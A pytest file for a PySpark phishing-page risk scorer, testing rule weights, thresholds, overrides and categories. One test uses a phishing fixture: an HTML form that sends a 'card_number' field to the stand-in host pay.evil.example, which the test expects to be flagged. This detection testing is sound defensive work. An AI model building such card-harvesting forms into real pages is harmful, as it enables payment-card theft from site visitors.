"""One row per rule and per boundary of the page score."""

from __future__ import annotations

import math

import pytest
from pyspark.sql import functions as F

from urltriage import config as C
from urltriage.operators.page_risk import score_page
from urltriage.plans.page_triage import analyze_pages, rank_pages

# With the contact check off this page fires no rule: score 0.5.
NEUTRAL = {
    "brand": "acme", "exact_brand_domain": False, "brand_in_domain": False, "brand_in_path": False,
    "brand_whitelisted": False, "password_inputs_count": 0, "email_inputs_count": 0,
    "suspicious_forms_count": 0, "forms_count": 0, "forms_external_action_ratio": 0.0,
    "credential_keywords_count": 0, "ecommerce_keywords_count": 0, "urgency_keywords_count": 0,
    "phishing_keywords_count": 0, "replica_keywords_count": 0, "suspicious_payment": False,
    "logo_similarity": 0.0, "suffix": "com", "typo_score": 0.0, "external_links_ratio": 0.0,
    "text_len": 5000, "informational_context": False, "whitelisted_platform": False,
    "is_https": True, "domain_age_days": 1000, "ssl_valid": True, "ssl_age_days": 100,
    "ssl_issuer": "DigiCert Inc", "images_count": 0, "text_snippets": ["buy acme now"],
}
TYPES = {bool: "boolean", int: "int", float: "double", str: "string", list: "array<string>"}
DDL = "id string, " + ", ".join(f"{k} {TYPES[type(v)]}" for k, v in NEUTRAL.items())
QUIET = C.PageRiskOptions(default_contact_suspicious=False)


def run(spark, cases, options=QUIET):
    rows = [(k, *[{**NEUTRAL, **c}[n] for n in NEUTRAL]) for k, c in cases.items()]
    out = score_page(spark.createDataFrame(rows, DDL), options).collect()
    return {r["id"]: (r["score"], list(r["reasons"]), r["category"]) for r in out}


def sigmoid(total):
    return round(1 / (1 + math.exp(-3 * total)), 4)


CASES = {
    "none": ({}, 0.0),
    "in_domain": ({"brand_in_domain": True, "brand_in_path": True}, -0.7),
    "in_path": ({"brand_in_path": True}, 0.03),
    "listed": ({"brand_whitelisted": True}, -1.0),
    "password": ({"password_inputs_count": 2}, 0.35),
    "email": ({"email_inputs_count": 1}, 0.35),
    "odd_form": ({"suspicious_forms_count": 1}, 0.35),
    "forms2": ({"forms_count": 2}, 0.0),
    "forms3": ({"forms_count": 3}, 0.2),
    "ratio02": ({"forms_external_action_ratio": 0.2}, 0.0),
    "ratio05": ({"forms_external_action_ratio": 0.5}, 0.2),
    "credential": ({"credential_keywords_count": 2}, 0.4 * math.log(3) / math.log(6)),
    "credential_full": ({"credential_keywords_count": 50}, 0.4),
    "shop_alone": ({"ecommerce_keywords_count": 9}, 0.0),
    "shop_backed": ({"ecommerce_keywords_count": 5, "phishing_keywords_count": 1}, 0.01),
    "urgency_alone": ({"urgency_keywords_count": 9}, 0.0),
    "urgency_backed": ({"urgency_keywords_count": 2, "password_inputs_count": 1}, 0.35 + 0.08),
    "phishing1": ({"phishing_keywords_count": 1}, 0.0),
    "phishing2": ({"phishing_keywords_count": 2}, 0.45 * 0.4),
    "replica": ({"replica_keywords_count": 1}, 0.6),
    "payment": ({"suspicious_payment": True}, 0.7),
    "logo08": ({"logo_similarity": 0.8}, 0.0),
    "logo09_young": ({"logo_similarity": 0.9, "domain_age_days": 365}, -0.4),
    "suffix": ({"suffix": "shop"}, 0.25),
    "typo05": ({"typo_score": 0.5}, 0.0),
    "typo06": ({"typo_score": 0.6}, 0.3),
    "links06": ({"external_links_ratio": 0.6}, 0.0),
    "links07": ({"external_links_ratio": 0.7}, 0.25),
    "text200": ({"text_len": 200, "forms_count": 1}, 0.0),
    "text199": ({"text_len": 199, "forms_count": 1}, 0.3),
    "info": ({"informational_context": True}, -0.5),
    "http": ({"is_https": False}, 0.3),
    "age180": ({"domain_age_days": 180}, 0.0),
    "age179": ({"domain_age_days": 179}, 0.4),
    "age_null": ({"domain_age_days": None}, 0.0),
    "ssl_invalid": ({"ssl_valid": False}, 0.45),
    "ssl_null": ({"ssl_valid": None, "ssl_age_days": None, "ssl_issuer": None}, 0.0),
    "ssl29_89": ({"ssl_age_days": 29, "domain_age_days": 89}, 0.7),
    "ssl30_89": ({"ssl_age_days": 30, "domain_age_days": 89}, 0.4),
    "ssl29_90": ({"ssl_age_days": 29, "domain_age_days": 90}, 0.4),
    "issuer": ({"ssl_issuer": "Unknown"}, 0.35),
    "images20": ({"images_count": 20, "text_len": 999}, 0.0),
    "images21": ({"images_count": 21, "text_len": 999}, 0.3),
    "images_long": ({"images_count": 21, "text_len": 1000}, 0.0),
}


def test_rules_and_boundaries(spark):
    got = run(spark, {k: c for k, (c, _) in CASES.items()})
    for name, (_, total) in CASES.items():
        assert got[name][0] == pytest.approx(sigmoid(total), abs=1e-4), name


def test_overrides(spark):
    got = run(
        spark,
        {
            "exact": {"exact_brand_domain": True, "brand_in_domain": True},
            "platform": {"whitelisted_platform": True, "brand_whitelisted": True},
            "logo": {"logo_similarity": 0.9, "domain_age_days": 366},
            "logo_no_age": {"logo_similarity": 0.9, "domain_age_days": None},
            "loud": {"exact_brand_domain": True, "suspicious_payment": True, "replica_keywords_count": 3,
                     "password_inputs_count": 1, "ssl_valid": False},
        },
    )
    assert got["exact"][0] == 0.0
    assert got["platform"][0] == 0.0
    official = [r for r in got["platform"][1] if r.startswith("Plataforma")]
    assert len(official) == 1
    assert got["logo"][0] == 0.0
    assert got["logo_no_age"][0] == pytest.approx(sigmoid(-0.4), abs=1e-4)
    assert got["loud"][0] == pytest.approx(sigmoid(-1.0 + 0.7 + 0.6 + 0.35 + 0.45) - 0.5, abs=1e-4)


def test_categories_and_defaults(spark):
    assert run(spark, {"a": {}})["a"] == (0.5, [], "suspect")
    noisy = run(spark, {"a": {}}, C.PageRiskOptions())["a"]
    assert noisy[0] == 0.7685 and noisy[2] == "phishing"
    assert run(spark, {"a": {"brand_in_domain": True}})["a"][2] == "legit"


def test_snippet_arm_is_an_option(spark):
    case = {"a": {"phishing_keywords_count": 1}}
    armed = C.PageRiskOptions(default_contact_suspicious=False, snippet_arm=True)
    assert run(spark, case)["a"][0] == 0.5
    assert run(spark, case, armed)["a"][0] == pytest.approx(sigmoid(0.09), abs=1e-4)


def test_optional_inputs(spark):
    df = spark.createDataFrame([("x", *NEUTRAL.values())], DDL)
    given = df.withColumns({"multi_brand_detected": F.lit(True), "contact_info_suspicious": F.lit(False)})
    row = score_page(given).first()
    assert row["score"] == pytest.approx(sigmoid(0.5), abs=1e-4)


def test_numbers_inside_reasons(spark):
    got = run(spark, {"half": {"forms_external_action_ratio": 0.5}, "third": {"forms_external_action_ratio": 1 / 3},
                      "one": {"forms_external_action_ratio": 1.0}})
    texts = {k: v[1][0].split(": ")[1] for k, v in got.items()}
    assert texts == {"half": "0.5", "third": "0.33", "one": "1.0"}


def test_card_form_is_scored_not_an_error(spark):
    page = "<form action='https://pay.evil.example/x'><input name='card_number'></form>"
    rows = [("https://shop.acme-sale.com/", "acme", 200, None, page), ("https://a.com/", "acme", 404, None, ""), (None, "acme", 200, None, page)]
    pages = spark.createDataFrame(rows, "url string, brand string, status int, error string, html string")
    pages = pages.withColumn("final_url", F.col("url"))
    whois = spark.createDataFrame([], "base_domain string, domain_age_days int, whois_suspicious boolean")
    tls = spark.createDataFrame([], "host string, issuer_org string, not_before timestamp, not_after timestamp, error string")
    every = analyze_pages(pages, whois, tls, "2025-01-01 00:00:00").collect()
    by_url = {r["url"]: r for r in every}
    card = by_url["https://shop.acme-sale.com/"]
    assert card["suspicious_payment"] and card["category"] == "phishing"
    assert card["content_analysis"]["forms_details"][0]["action_domain"] == "pay.evil.example"
    missing = by_url["https://a.com/"]
    assert (missing["score"], missing["category"]) == (0.0, None)
    assert list(missing["reasons"]) == ["No se pudo recuperar HTML: HTTP 404"]
    assert by_url[None]["category"] == "error"
    ranked = rank_pages(analyze_pages(pages, whois, tls, "2025-01-01 00:00:00")).collect()
    assert [r["url"] for r in ranked] == ["https://shop.acme-sale.com/", None]
